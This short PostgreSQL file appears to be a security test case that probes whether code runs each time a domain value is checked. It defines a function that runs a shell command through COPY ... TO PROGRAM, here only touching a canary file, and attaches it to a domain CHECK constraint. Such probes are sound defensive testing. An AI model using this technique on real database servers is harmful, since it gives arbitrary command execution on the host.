-- tries: have code run whenever a value of a domain is checked
-- finding: none by reading
-- sides: confined on a private server, without rights on one in use
CREATE FUNCTION public.f() RETURNS integer
    LANGUAGE plpgsql
    AS $$BEGIN COPY (SELECT 1) TO PROGRAM 'touch {canary}'; RETURN 1; END$$;

CREATE DOMAIN public.d AS integer CHECK (public.f() > 0);
